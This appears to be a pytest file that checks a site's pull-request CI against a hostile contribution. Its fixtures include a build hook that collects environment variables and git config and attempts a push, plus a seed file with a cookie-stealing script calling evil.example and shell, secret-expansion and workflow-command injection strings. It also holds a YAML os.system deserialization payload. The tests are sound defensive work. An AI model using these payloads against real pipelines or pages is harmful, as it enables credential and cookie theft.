"""A pull request that turns everything it can against the archive: what its own job does with it. All is invented."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from tests.site import test_workflow_jobs as jobs

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.slow
clone = jobs.clone

HOOK = """\
import json, os, pathlib, subprocess

def on_post_build(config, **_):
    git = pathlib.Path(".git")
    push = subprocess.run(["git", "push", "origin", "HEAD:main"], capture_output=True, text=True)
    seen = {
        "environment": sorted(os.environ),
        "git": git.joinpath("config").read_text("utf-8"),
        "push": push.returncode,
        "said": push.stderr,
    }
    pathlib.Path(config["site_dir"], "stolen.json").write_text(json.dumps(seen), "utf-8")
"""
SEED = """\
title: "<script>fetch('https://evil.example/' + document.cookie)</script> ${{ secrets.GITHUB_TOKEN }} $(id) `id`"
summary: "::set-output name=x::y %0A::error::pwned"
rights: CC0-1.0
"""
USUAL = {
    *("PATH", "HOME", "LC_ALL", "GITHUB_REF_NAME", "GITHUB_STEP_SUMMARY", "PWD", "SHLVL", "_", "PYTHONPATH"),
    *("NO_MKDOCS_2_WARNING", "PYTHONWARNINGS", "LC_CTYPE"),
    *("MAKELEVEL", "MAKEFLAGS", "MFLAGS", "MAKEOVERRIDES", "EDITION"),
}
"""What a shell, make, the stand-in for GitHub's runner and this program put into the environment."""


@contextmanager
def upstream() -> Iterator[tuple[str, list[str | None]]]:
    """Stand in for the repository's server: whoever brings no credentials is sent away; what was brought is listed."""
    brought: list[str | None] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            brought.append(self.headers.get("Authorization"))
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="repository"')
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name that http.server gives it
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/archive.git", brought
    finally:
        server.shutdown()
        server.server_close()


def propose(clone: Path, files: dict[str, str]) -> None:
    for path, content in files.items():
        target = clone / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content, "utf-8")
    jobs.git(clone, "add", "--all", "--", *files)
    jobs.git(clone, "commit", "--quiet", "-m", "a friendly improvement")


def with_hook(clone: Path, hook: str) -> dict[str, str]:
    config = (clone / "mkdocs.yml").read_text("utf-8")
    assert "hooks:\n" in config
    return {
        "mkdocs.yml": config.replace("hooks:\n", "hooks:\n  - overrides/hooks/friendly.py\n"),
        "overrides/hooks/friendly.py": hook,
    }


def test_a_hostile_hook_runs_and_finds_nothing_to_take(clone: Path) -> None:
    with upstream() as (address, brought):
        jobs.git(clone, "remote", "set-url", "origin", address)
        propose(clone, with_hook(clone, HOOK))
        jobs.run_job(clone, "pull-request.yml", "preview")
    seen = json.loads((clone / "site/stolen.json").read_text("utf-8"))
    assert set(seen["environment"]) <= USUAL, "what the job gives to its steps"
    assert "extraheader" not in seen["git"].lower()
    assert seen["push"] != 0, seen["said"]
    assert brought, "the push was tried"
    assert set(brought) == {None}, "no credentials were at hand"


def test_what_a_hostile_hook_writes_stays_in_its_own_preview(clone: Path) -> None:
    """Its job hands over one artifact, labelled as a preview; nothing else of the clone leaves the machine."""
    hook = textwrap.dedent("""\
        def on_post_page(output, **_):
            return output.replace("<body", "<body data-owned")
    """)
    propose(clone, with_hook(clone, hook))
    jobs.run_job(clone, "pull-request.yml", "preview")
    assert "data-owned" in (clone / "site/index.html").read_text("utf-8")
    steps = jobs.steps("pull-request.yml", "preview")
    uploads = [step["with"] for step in steps if "upload" in step.get("uses", "")]
    assert [(upload["name"], upload["path"]) for upload in uploads] == [("preview-of-the-public-edition", "site")]


@pytest.mark.parametrize(
    "content", ["site_name: [", "plugins: [no-such-plugin]", "site_name: !!python/object/new:os.system [id]"]
)
def test_a_hostile_configuration_fails_its_own_check(clone: Path, content: str) -> None:
    config = (clone / "mkdocs.yml").read_text("utf-8")
    propose(clone, {"mkdocs.yml": f"{config}\n{content}\n" if content.startswith("plugins") else f"{content}\n"})
    with pytest.raises(AssertionError, match=r"mkdocs\.yml|MkDocs"):
        jobs.run_job(clone, "pull-request.yml", "preview")
    assert not (clone / "site").exists()


def test_a_hostile_seed_is_shown_as_what_it_is(clone: Path) -> None:
    propose(clone, {"seeds/2031-01-01-evil.yml": SEED})
    said = jobs.run_job(clone, "pull-request.yml", "preview")
    assert "### 2031-01-01-evil" in said
    assert "<script>" not in said
    page = (clone / "site/articles/2031-01-01-evil/index.html").read_text("utf-8")
    assert "<script>fetch" not in page
    checked = subprocess.run(
        [sys.executable, "-m", "build_site", "check", "--format", "github", "--against", "HEAD^1"],
        cwd=clone,
        env={"PYTHONPATH": ".", "PATH": "/usr/bin:/bin"},
        check=False,
        capture_output=True,
        text=True,
    )
    assert not [line for line in checked.stdout.splitlines() if line.startswith(("::set-output", "::error::pwned"))]


def test_a_changed_workflow_changes_no_other(clone: Path) -> None:
    """The workflow file of a pull request is its own. Those that publish are run as `main` has them."""
    path = ".github/workflows/pull-request.yml"
    changed = (clone / path).read_text("utf-8").replace("contents: read", "contents: write")
    propose(clone, {path: changed})
    for name in ("pages.yml", "release.yml"):
        assert "pull_request" not in jobs.triggers(clone, name)
